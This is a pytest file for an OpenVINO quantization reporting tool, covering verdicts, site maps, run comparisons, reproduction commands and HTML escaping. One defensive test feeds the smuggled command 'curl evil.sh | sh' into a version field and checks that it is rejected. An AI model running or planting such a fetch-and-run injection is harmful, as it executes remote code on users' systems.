"""What the page says."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from ovpass.ir.files import open_source
from ovpass.reporting.checks import RunError
from ovpass.reporting.compare import NONE, compare
from ovpass.reporting.formatting import change, interval
from ovpass.reporting.map import draw_maps
from ovpass.reporting.page import render, render_comparison
from ovpass.reporting.reproduction import commands, files
from ovpass.reporting.rules import rules_for
from ovpass.reporting.sites import left_out
from ovpass.reporting.verdict import figures, verdict
from ovpass.reporting.view import make_view
from ovpass.settings.selection import select
from ovpass.sites import CompressedMatMul, find_sites
from ovpass.support.formatting import number
from tests.cli.command import LLAMA
from tests.reporting.made import (
    HOSTILE,
    bench,
    evaluate,
    everything,
    inspect,
    names,
    plan,
    sensitivity,
    side,
    tune,
    verify,
)

NAMES = names(15)


def test_verdict_goes_by_the_strongest_evidence() -> None:
    planned = plan(NAMES, exempt=NAMES[:3])
    assert [line.state for line in verdict(side([evaluate()]))] == ["unknown", "unknown", "expected"]
    assert verdict(side([planned]))[0].state == "expected"
    on = verdict(side([planned, verify(planned)]))[0]
    assert (on.state, "12 of 15" in on.answer) == ("on", True)
    differs = verdict(side([planned, verify(planned, differing=NAMES[5:7])]))[0]
    assert (differs.state, "2 of 15" in differs.answer) == ("differs", True)
    nothing = plan(NAMES, exempt=NAMES)
    assert [line.state for line in verdict(side([nothing, verify(nothing)]))[:2]] == ["off", "off"]


def test_verdict_tells_where_and_what_it_costs_and_gains() -> None:
    planned = plan(NAMES, exempt=[NAMES[2], NAMES[9]])
    _, where, costs = verdict(side([inspect(NAMES), planned, verify(planned), evaluate(), bench()]))
    assert "groups of 64" in where.answer
    assert any("kind:attn.v" in detail for detail in where.details)
    assert any("64 tokens" in detail for detail in where.details)
    assert "0.012" in costs.answer
    assert "+0.85" in costs.answer
    assert any("36 % less" in detail and "X=1" in detail for detail in costs.details)


def test_what_the_onnx_file_asked_for_is_told_without_a_plan_too() -> None:
    run, asked = inspect(NAMES), "MatMulInteger (u8 asymmetric, per tensor)"
    for entry in run["sites"]:
        entry.update(eligible=False, group_size=None)
    for entry in run["sites"][:4]:
        entry["asked"] = asked
    for shown in (side([run]), side([run, plan(NAMES)])):
        page = render(shown)
        assert page.count(f'data-label="Asked for" class="">{asked}<') == 4
        assert page.count(f"the source file requests {asked}") == 5  # the cells of the map and the verdict
        assert f"For 4 sites, the source file requests {asked}." in page
    assert "Asked for" not in render(side([inspect(NAMES)]))


@pytest.mark.parametrize(("ratio", "words"), [(1.17, "17 % more"), (0.57, "43 % less"), (1.001, "the same")])
def test_times_are_told_in_words_that_are_no_speed_up(ratio: float, words: str) -> None:
    assert change(ratio) == words


def test_the_chart_of_time_shows_what_the_verdict_tells() -> None:
    """The ratio within rounds, which need not be that of the medians: those are 1 : 2 here."""
    run = bench()
    for entry in run["measurements"]:
        if entry["subject"]:
            entry["ttft_ms"]["interval"] = [0.6, 0.7]
    shown = make_view(side([inspect(NAMES), run]))
    (_, (first, last)) = shown.latency[0]
    assert "At 512 tokens: #2 0.64 (0.60 to 0.70)." in first.text
    assert " ms" not in first.text
    assert "#2, 512 tokens: 0.64 (0.60 to 0.70)" in first.drawing.wide
    assert any(
        "36 % less (ratio 0.64, 95 %: 0.60 to 0.70)" in detail for line in shown.verdict for detail in line.details
    )
    assert ("36 % less", "ratio 0.64, 95 %: 0.60 to 0.70, at 512 tokens, CPU") in {
        (f.value, f.note) for f in shown.figures
    }
    assert "10 ms" in last.text  # no ratio was measured of this one


def test_intervals_are_written_as_their_values_are() -> None:
    assert (number(1.6e-4, 2), interval((1.56e-4, 1.64e-4))) == ("1.6e-4", "1.6e-4 to 1.6e-4")


@pytest.mark.parametrize("words", [["--match", "kind:attn"], ["--match=kind:attn"]])
def test_a_selection_is_not_taken_for_the_model(words: list[str]) -> None:
    run = inspect(NAMES[:4])
    run["run"]["arguments"] = ["models/made", *words, "--json"]
    where = verdict(side([run]))[1]
    assert ("of these" in where.answer, "kind:attn" in where.details[0]) == (True, True)
    assert "of these" not in verdict(side([run, plan(NAMES)]))[1].answer


def test_runs_with_tokens_name_their_submodels() -> None:
    run = verify(plan(NAMES))
    run["thresholds"][0]["submodel"] = "text/openvino_model.xml"
    assert "text/openvino_model.xml, 64 tokens: not quantized" in render(side([run]))


def test_figures_are_those_of_the_runs() -> None:
    shown = {figure.label: figure.value for figure in figures(side([plan(NAMES, exempt=NAMES[:3]), evaluate()]))}
    assert shown["Sites quantized"] == "12 of 15"
    assert shown["Work quantized"] == "80.0 %"
    assert shown["KL divergence"] == "0.012"


def test_the_map_has_every_site_once() -> None:
    made = side(everything(names(1000)))
    maps = draw_maps(made.sites).maps
    cells = [cell for m in maps for band in m.bands for location in band.slots for cell in location.cells]
    cells += [cell for m in maps for row in m.outside for cell in row.cells]
    assert sorted(cell.site.name for cell in cells) == sorted(names(1000))
    assert all(location.column <= len(band.blocks) for m in maps for band in m.bands for location in band.slots)


def test_submodels_have_maps_of_their_own() -> None:
    run = inspect(names(6))
    for entry in run["sites"][:3]:
        entry["submodel"] = "text/openvino_model.xml"
    for entry in run["sites"][3:]:
        entry.update(submodel="vision/openvino_model.xml", name=run["sites"][0]["name"] + entry["kind"])
    assert [m.submodel for m in draw_maps(side([run]).sites).maps] == [
        "text/openvino_model.xml",
        "vision/openvino_model.xml",
    ]


def test_levels_of_cost_rise_with_it() -> None:
    made = side([inspect(NAMES), sensitivity(NAMES)])
    cells = [cell for band in draw_maps(made.sites).maps[0].bands for location in band.slots for cell in location.cells]
    by_cost = sorted(cells, key=lambda cell: cell.site.cost or 0)
    levels = [cell.level or 0 for cell in by_cost]
    assert levels == sorted(levels)
    assert levels[-1] == 6


def test_levels_bear_costs_whose_ratio_is_no_number() -> None:
    run = sensitivity(NAMES)
    run["ranking"][0]["costs"]["trimmed"], run["ranking"][1]["costs"]["trimmed"] = 1e308, 1e-320
    page = draw_maps(side([inspect(NAMES), run]).sites)
    levels = [cell.level for band in page.maps[0].bands for location in band.slots for cell in location.cells]
    assert {levels[0], levels[1]} == {6, 1}
    assert len(page.legend.levels) == 6


@pytest.mark.parametrize("chosen", [[2, 9], [0, 1, 2, 3], [6, 13, 14], [0], list(range(15)), [2]])
def test_rules_pick_just_what_is_left_out(chosen: list[int]) -> None:
    """Of a real model, by the selection grammar itself."""
    (ir,) = open_source(LLAMA).models
    sites: list[CompressedMatMul] = list(find_sites(ir.document().graph))
    run = inspect([site.name for site in sites])
    for entry, site in zip(run["sites"], sites, strict=True):
        entry.update(kind=site.kind, layer=site.layer)
    shown = list(side([run]).sites)
    marked = [replace(site, action="exempt") if i in chosen else site for i, site in enumerate(shown)]
    rules = rules_for(left_out(marked), marked)
    picked = {site.name for rule in rules for site in select(sites, rule)}
    assert picked == {sites[i].name for i in chosen}


def test_names_that_look_like_patterns_are_quoted() -> None:
    sites = ["re:.*", *names(15)[1:-1], "kind:x"]
    made = side([plan(sites, exempt=sites[:1])])
    twin = replace(made.sites[0], name="twin", action="quantize")
    assert rules_for(left_out(made.sites), [*made.sites, twin]) == [r"re:re:\.\*"]


@pytest.mark.slow
def test_everything_hostile_is_escaped_everywhere() -> None:
    sites = [HOSTILE + str(i) for i in range(15)]
    runs = everything(sites, exempt=sites[:2], differing=sites[3:5])
    runs[3] = evaluate(HOSTILE)
    runs[6] = bench((HOSTILE, f"{HOSTILE}@{HOSTILE}=1"))
    for entry in runs[0]["sites"]:
        entry.update(kind=HOSTILE, reason=HOSTILE, submodel="")
    for entry in (*runs[1]["decisions"], *runs[5]["plan"]["decisions"]):
        entry.update(kind=HOSTILE, reason=HOSTILE)
    for run in runs:
        run["run"].update(arguments=[HOSTILE], files={HOSTILE: HOSTILE})
        run["run"]["inputs"] = [{"path": HOSTILE, "bytes": 1, "sha256": HOSTILE}]
        run["run"]["models"][0]["path"] = HOSTILE
    for page in (render(side(runs), HOSTILE), render_comparison(side(runs), side(runs), HOSTILE)):
        assert "<img" not in page
        assert "<b>" not in page.replace("<b style", "")
        assert len(re.findall(r"<script\b", page)) == len(re.findall(r"</script>", page)) == 1


def test_the_page_names_no_address_to_load_from() -> None:
    page = render(side(everything(NAMES)))
    loading = re.findall(r"""(?<![-\w])(?:src|href|action)=["'](?!#|data:,)[^"']*|@import|url\((?!#)[^)]*""", page)
    assert loading == []
    assert "default-src 'none'" in page


def test_commands_repeat_the_runs() -> None:
    runs = [*everything(NAMES), evaluate()]
    runs[2]["run"]["arguments"] = ["my model", "--simulate", "arc-a770"]
    lines = commands(side(runs).runs).splitlines()
    assert "ovpass verify 'my model' --simulate arc-a770 --json > verify.json" in lines
    assert sum(line.startswith("ovpass evaluate") for line in lines) == 2
    files = [line.rpartition("> ")[2] for line in lines if " > " in line]
    assert len(set(files)) == len(runs)
    assert all(name in lines[-1] for name in files)


def test_commands_name_what_they_need() -> None:
    """Packages, and files: two of one name are told apart."""
    first, second, third = plan(NAMES), evaluate(), evaluate()
    first["run"]["files"], second["run"]["files"] = {"a.yaml": "group_size: 64"}, {"a.yaml": "group_size: 32"}
    third["run"].update(files=first["run"]["files"], inputs=[{"path": "a\nb", "bytes": 7, "sha256": "12ab"}])
    seen = verify(plan(NAMES))
    shown = side([first, second, third, seen])
    text = commands(shown.runs, note="a note")
    lines = text.splitlines()
    assert "pip install '.[eval,report]' openvino==2026.4.1" in lines
    assert any(line.startswith("ovpass devices --install-driver") for line in lines)
    saved = [line.rpartition(" ")[2] for line in lines if "a.yaml" in line and line.startswith("#")]
    marks = [name.rpartition(" ")[2] for name, _ in files(shown.runs)]
    assert saved == [marks[0], marks[1], marks[0]]
    assert [content for _, content in files(shown.runs)] == ["group_size: 64", "group_size: 32"]
    assert any(line.startswith('# Reads "a\\nb", 7 bytes') and "12ab" in line for line in lines)
    assert "--note 'a note'" in lines[-1]


@pytest.mark.parametrize("package", ["ovpass", "openvino"])
def test_versions_are_nothing_else(package: str) -> None:
    run = plan(NAMES)
    run["run"][package] = "1; curl evil.sh | sh #"
    with pytest.raises(RunError, match=package):
        side([run])


def test_what_tune_chose_is_the_plan_where_no_other_is_given() -> None:
    planned = plan(NAMES, exempt=NAMES[:4])
    assert [site.action for site in side([inspect(NAMES), tune(planned)]).sites][:5] == ["exempt"] * 4 + ["quantize"]
    assert {site.action for site in side([plan(NAMES), tune(planned)]).sites} == {"quantize"}


def test_comparison_has_what_differs_first() -> None:
    left, right = side([plan(NAMES), evaluate()]), side([plan(NAMES, exempt=NAMES[:2]), evaluate()])
    found = compare(left, right)
    assert [pair.site.name for pair in found.sites] == NAMES[:2]
    same = [row.same for row in found.rows]
    assert same == sorted(same)
    assert {row.label for row in found.rows if not row.same} == {"Sites quantized", "Work quantized"}


def test_comparison_tells_settings_apart() -> None:
    """Two plans can decide alike of all sites and still be different."""
    run = plan(NAMES)
    run["settings"] = {**run["settings"], "threshold": 128, "symmetric": False, "target": "cpu"}
    run["run_environment"] = {"OV_GPU_ASYM_DYNAMIC_QUANTIZATION": "1"}
    found = compare(side([plan(NAMES)]), side([run]))
    changed = {row.label for row in found.rows if not row.same}
    assert changed == {"Target", "KV cache", "Quantized above", "Activations", "Run with"}
    assert found.summary.startswith("5 settings, 0 figures and 0 sites differ")
    run = plan(NAMES)
    run["decisions"][3]["threshold"] = 64
    assert [pair.site.name for pair in compare(side([plan(NAMES)]), side([run])).sites] == [NAMES[3]]


def test_comparison_tells_measurements_apart() -> None:
    cheap, dear = sensitivity(NAMES), sensitivity(NAMES)
    dear["together"]["trimmed"] = 0.5
    dear["ranking"][0]["costs"]["trimmed"] = 7.0
    left, right = (side([inspect(NAMES), run]) for run in (cheap, dear))
    found = compare(left, right)
    assert [pair.site.name for pair in found.sites] == NAMES[:1]
    differing = {row.label: row.right for row in found.rows if not row.same}
    assert "0.5" in differing["All sites together cost"]
    assert NAMES[0] in differing["The costliest site"]
    page = render_comparison(left, right)
    assert page.count('id="a-sensitivity"') == page.count('id="b-sensitivity"') == page.count('id="b-rules"') == 1
    assert compare(left, side([inspect(NAMES)])).sites == ()


def test_comparison_tells_what_the_plugin_did_and_whose_accuracy_it_is() -> None:
    planned = plan(NAMES)
    left = side([planned, verify(planned), evaluate()])
    right = side([planned, verify(planned, differing=NAMES[2:4]), evaluate("models/made@per-token")])
    differing = {row.label: (row.left, row.right) for row in compare(left, right).rows if not row.same}
    assert differing["Not as planned"] == ("0 of 15 sites", "2 of 15 sites")
    assert "models/made@per-token" in differing["Accuracy"][1]


def test_times_are_compared_at_lengths_that_both_were_run_with() -> None:
    short, far = bench(("models/made",)), bench(("models/made",))
    short["measurements"] = [entry for entry in short["measurements"] if entry["prompt_tokens"] < 512]
    rows = [row for row in compare(side([short]), side([far])).rows if "first token" in row.label]
    assert [(row.label, row.same) for row in rows] == [("Time to first token, 64 tokens, CPU", True)]
    far["measurements"] = [entry for entry in far["measurements"] if entry["prompt_tokens"] == 512]
    rows = [row for row in compare(side([short]), side([far])).rows if "first token" in row.label]
    assert [(row.left == NONE, row.right == NONE) for row in rows] == [(False, True), (True, False)]


def test_comparison_says_where_models_differ() -> None:
    left, right = plan(NAMES), plan(NAMES, exempt=NAMES[:2])
    assert "different models" not in compare(side([left]), side([right])).summary
    right["run"]["models"][0]["weights"] = "finer"
    assert "different models" in compare(side([left]), side([right])).summary


def test_absolute_paths_stand_in_commands_only() -> None:
    far = "/far/away/made"
    runs = [plan(NAMES), evaluate(f"{far}@plan=/far/away/plan.yaml"), bench((far, f"{far}@X=1"))]
    for run in runs:
        run["run"]["models"][0]["path"] = far
    page = render(side(runs))
    assert "made@plan=plan.yaml" in page
    assert "/far/away" not in page.partition('<pre id="commands"')[0]


def test_settings_are_those_of_the_plan_that_is_shown() -> None:
    tuned, other = tune(plan(NAMES, exempt=NAMES[:4], group=64)), plan(NAMES, exempt=NAMES[:1], group=32)
    assert "group_size: 64" in make_view(side([tuned])).rules_yaml
    assert "group_size: 32" in make_view(side([tuned, other])).rules_yaml


def test_models_without_a_site_in_common_are_not_compared() -> None:
    with pytest.raises(RunError, match="no site in common"):
        compare(side([plan(NAMES)]), side([plan([f"x{name}" for name in NAMES])]))
